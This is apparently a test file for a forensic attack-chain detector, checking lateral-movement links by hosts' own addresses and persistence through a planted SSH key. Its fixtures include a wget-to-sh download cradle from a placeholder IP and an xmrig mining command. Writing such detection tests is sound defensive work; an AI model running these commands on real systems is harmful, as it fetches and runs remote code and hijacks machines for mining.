using Timeline.Core.Findings;
using Timeline.Detection.Chain;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Detection.Chain;

/// <summary>
/// Moves that leave no ssh command (worm code) and keys that come back: a logon on one host from an
/// address a compromised host states as its own, and a key first used from the attacker's address.
/// </summary>
public sealed class LateralByOwnAddressTests
{
    private static readonly ChainOptions Options = new() { Knowledge = ChainKnowledge.Load(RepoPaths.Sigma) };
    private const string Cradle = "wget -q -O - http://203.0.113.66/s.sh | sh > /dev/null 2>&1";

    private static IReadOnlyList<AttackChain> Build(ChainEvents ev) => ChainBuilder.Build(ev.Events, new Dictionary<string, List<RuleMatch>>(), Options);

    [Theory]
    [InlineData("NetworkManager[702]: <info>  [1725321605.1262] dhcp4 (eth0): state changed new lease, address=10.1.1.21", "DHCP lease (NetworkManager)")]
    [InlineData("NetworkManager[702]: <info>  [1725321605.1262] dhcp4 (eth0):   address 10.1.1.21", "DHCP lease (NetworkManager)")]
    [InlineData("dhclient[688]: bound to 10.1.1.21 -- renewal in 1721 seconds.", "DHCP lease (dhclient)")]
    [InlineData("systemd-networkd[512]: eth0: DHCPv4 address 10.1.1.21/24, gateway 10.1.1.1 acquired from 10.1.1.1", "DHCP lease (systemd-networkd)")]
    [InlineData("sshd[700]: Server listening on 10.1.1.21 port 22.", "sshd listening address")]
    [InlineData("redis[812]: REPLICAOF 203.0.113.150:8886 enabled (user request from 'id=7 addr=203.0.113.150:49152 laddr=10.1.1.21:6379 fd=8 name= age=0')", "local address of a Redis client connection")]
    public void LinesThatStateTheHostsOwnAddressAreRecognised(string line, string how)
    {
        Assert.Equal(("10.1.1.21", how), OwnAddress.In(line));
    }

    [Theory]
    [InlineData("sshd[700]: Server listening on 0.0.0.0 port 22.")]
    [InlineData("sshd[2311]: Accepted password for root from 10.1.1.21 port 40112 ssh2")]
    [InlineData("dhclient[688]: DHCPREQUEST for 10.1.1.21 on eth0 to 10.1.1.1 port 67")]
    public void OtherLinesStateNoOwnAddress(string line) => Assert.Null(OwnAddress.In(line));

    [Fact]
    public void ALogonFromACompromisedHostsOwnAddressIsLateralMovement()
    {
        var ev = new ChainEvents();
        ev.Add("a", "linux/syslog", -300, "dhcp4 (eth0): state changed new lease, address=10.1.1.21", ("program", "NetworkManager"));
        // Before the compromise: a routine job from a to b is not a move.
        var routine = ev.Accepted("b", -200, "root", "10.1.1.21", "publickey", "SHA256:deploydeploydeploydeploydeploydeploydeployd", "3000");
        ev.CronCmd("a", 0, "redis", Cradle);
        var inbound = ev.Accepted("b", 1, "root", "10.1.1.21", "publickey", "SHA256:deploydeploydeploydeploydeploydeploydeployd", "3100");
        ev.CronCmd("b", 2, "root", Cradle);
        var chains = Build(ev);

        var b = chains.Single(c => c.Host == "b");
        Assert.Equal("lateral", b.Entry!.Kind);
        Assert.Equal(inbound.Id, b.Entry.EventId);
        var link = Assert.Single(b.Lateral);
        Assert.Equal(("a", "b", null, inbound.Id), (link.FromHost, link.ToHost, link.FromEventId, link.ToEventId));
        Assert.Contains("10.1.1.21 is a's own address (DHCP lease (NetworkManager)", link.Evidence, StringComparison.Ordinal);
        Assert.DoesNotContain(b.Steps, s => s.EventId == routine.Id);

        var a = chains.Single(c => c.Host == "a");
        Assert.Single(a.Lateral);
        var step = Assert.Single(a.Steps, s => s.Phase == AttackPhase.Lateral);
        Assert.Equal(inbound.Id, step.EventId);
    }

    [Fact]
    public void AnAddressWithNoAttackerActivityOnItsHostLinksNothing()
    {
        var ev = new ChainEvents();
        ev.Add("a", "linux/syslog", -300, "dhclient[688]: bound to 10.1.1.21 -- renewal in 1721 seconds.", ("program", "dhclient"));
        ev.Failures("b", "203.0.113.5", 0, 6, "root");
        ev.Accepted("b", 0.5, "root", "203.0.113.5");
        ev.Accepted("b", 1, "root", "10.1.1.21", "publickey", "SHA256:deploydeploydeploydeploydeploydeploydeployd", "3100");
        ev.CronCmd("b", 2, "root", Cradle);
        var chains = Build(ev);
        var b = Assert.Single(chains);
        Assert.Equal("ssh-bruteforce-success", b.Entry!.Kind);
        Assert.Empty(b.Lateral);
    }

    [Fact]
    public void ANewKeyOnALogonBackFromTheAttackersAddressIsThePlantedKey()
    {
        var ev = new ChainEvents();
        ev.Add("h1", "linux/syslog", -600, "boot", ("program", "kernel"));
        ev.Failures("h1", "203.0.113.5", 0, 8, "root");
        ev.Accepted("h1", 1, "root", "203.0.113.5", pid: "2000");
        ev.CronCmd("h1", 3, "root", "/var/tmp/.x/xmrig -o pool.hashvault.pro:443 --donate-level=0 -B");
        var key = ev.Add("h1", "linux/authorized-keys", null, Timeline.Core.Events.TimeQuality.FileMtime, "ssh-rsa AAAA root@localhost",
            ("event", "authorized_key"), ("user", "root"), ("key_fp", "SHA256:attackerattackerattackerattackerattackerat"), ("key_comment", "root@localhost"));
        var back = ev.Accepted("h1", 40, "root", "203.0.113.5", "publickey", "SHA256:attackerattackerattackerattackerattackerat", "2100");
        var chain = Assert.Single(Build(ev));
        Assert.Equal(AttackPhase.Persistence, chain.Steps.Single(s => s.EventId == back.Id).Phase);
        Assert.Contains(chain.Steps, s => s.EventId == key.Id && s.Phase == AttackPhase.Persistence);
        Assert.Contains(chain.Response, a => a.Category == "remove" && a.EvidenceEventIds.Contains(key.Id));
        Assert.Contains(chain.Indicators, i => i.Type == "ssh-key" && i.Value == "SHA256:attackerattackerattackerattackerattackerat");
        Assert.Contains(chain.Indicators, i => i.Type == "pool" && i.Value == "pool.hashvault.pro:443");
    }
}
